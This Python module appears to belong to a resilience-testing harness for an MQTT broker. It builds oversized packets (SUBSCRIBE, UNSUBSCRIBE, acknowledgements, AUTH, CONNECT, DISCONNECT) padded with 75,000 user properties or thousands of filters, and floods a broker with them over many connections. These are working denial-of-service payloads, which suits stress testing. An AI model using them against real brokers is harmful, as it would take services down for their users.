"""Packets of every type, with as many properties or filters as a packet holds: most of them no plugin sees."""

import itertools
from collections.abc import Callable, Iterator

import mqtt
from assault import Slot, Volley, endless
from device import Credentials
from field import Field

# 75,000 user properties of nothing: 375 KB, below the broker's largest packet.
PROPERTIES = b"\x26\x00\x00\x00\x00" * 75_000
FILTERS = 10_000


def unsubscribe(sender: Credentials) -> bytes:
    return mqtt.unsubscribe([f"{sender.down}/x"], properties=PROPERTIES)


def unsubscribe_many(sender: Credentials) -> bytes:
    return mqtt.unsubscribe(["a"] * FILTERS)


def unsubscribe_full(sender: Credentials) -> bytes:
    return mqtt.unsubscribe(["a"] * 125_000)


def subscribe(sender: Credentials) -> bytes:
    return mqtt.subscribe([f"{sender.down}/x"], properties=PROPERTIES)


def subscribe_many(sender: Credentials) -> bytes:
    return mqtt.subscribe([f"{sender.down}/x"] * (FILTERS // 2))


def subscribe_full(sender: Credentials) -> bytes:
    return mqtt.subscribe(["a"] * 95_000)


def puback(sender: Credentials) -> bytes:
    return mqtt.acknowledgement(0x40, PROPERTIES)


def pubrec(sender: Credentials) -> bytes:
    return mqtt.acknowledgement(0x50, PROPERTIES)


def pubrel(sender: Credentials) -> bytes:
    return mqtt.acknowledgement(0x62, PROPERTIES)


def pubcomp(sender: Credentials) -> bytes:
    return mqtt.acknowledgement(0x70, PROPERTIES)


def auth(sender: Credentials) -> bytes:
    """AUTH that begins anew what was never begun: an authentication method, and the properties."""
    properties = b"\x15" + mqtt.text("x") + PROPERTIES
    return mqtt.packet(0xF0, b"\x19" + mqtt.length(len(properties)) + properties)


def pingreq(sender: Credentials) -> bytes:
    return mqtt.PINGREQ


def repeated(
    name: str, packet: Callable[[Credentials], bytes], connections: int, attacker: tuple[str, str]
) -> Callable[[Field], None]:
    """An attack: a packet again and again, over so many connections of one device, of which this is the user and the name."""

    def begin(field: Field) -> None:
        sender = field.town.device(*attacker)
        volley = Volley.of(packet(sender))
        for number in range(connections):
            field.open(Slot(field.tcp, sender.connect_packet(f"packets{number}"), ammunition=endless(volley)))

    where = "one connection" if connections == 1 else f"{connections} connections of one device"
    begin.__doc__ = f"{name}, as fast as the broker takes them, over {where}."
    return begin


def connects(field: Field) -> None:
    """Sign-ins with a good token and 75,000 user properties in CONNECT, 200 a second, each gone at once."""
    connect = field.mallory.connect_packet("packets", properties=PROPERTIES)
    field.assault.repeat(itertools.repeat(Slot(field.tcp, connect, leaves=True)), 200)


def disconnects(field: Field) -> None:
    """Four connections that sign in, send DISCONNECT with 75,000 user properties, and come back."""
    body = b"\x00" + mqtt.length(len(PROPERTIES)) + PROPERTIES
    volley = Volley(mqtt.packet(0xE0, body), 1)

    def once() -> Iterator[Volley]:
        yield volley

    for number in range(4):
        field.open(Slot(field.tcp, field.mallory.connect_packet(f"packets{number}"), ammunition=once))
